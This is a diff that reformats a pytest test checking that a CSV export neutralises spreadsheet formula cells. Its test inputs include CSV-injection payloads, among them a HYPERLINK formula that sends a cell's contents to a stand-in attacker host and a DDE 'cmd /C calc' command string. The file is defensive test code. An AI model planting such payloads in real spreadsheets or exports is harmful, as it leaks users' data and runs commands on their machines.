@@ -22,14 +22,17 @@ class Row:
     user_id: int | None = 7
 
 
-@pytest.mark.parametrize("question", [
-    pytest.param('=HYPERLINK("http://evil.example/?"&A1;"kliknij")', id="equals"),
-    pytest.param("@SUM(1+1)", id="at"),
-    pytest.param("+48 123 456 789 cmd|' /C calc'!A0", id="plus"),
-    pytest.param("-2+3", id="minus"),
-    pytest.param("\t=1+1", id="tab"),
-    pytest.param("\r=1+1", id="carriage-return"),
-])
+@pytest.mark.parametrize(
+    "question",
+    [
+        pytest.param('=HYPERLINK("http://evil.example/?"&A1;"kliknij")', id="equals"),
+        pytest.param("@SUM(1+1)", id="at"),
+        pytest.param("+48 123 456 789 cmd|' /C calc'!A0", id="plus"),
+        pytest.param("-2+3", id="minus"),
+        pytest.param("\t=1+1", id="tab"),
+        pytest.param("\r=1+1", id="carriage-return"),
+    ],
+)
 def test_formula_cells_are_neutralised(question: str) -> None:
     text = unanswered_csv([Row(question)], {7: "terminal:7"})
     cells = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1]
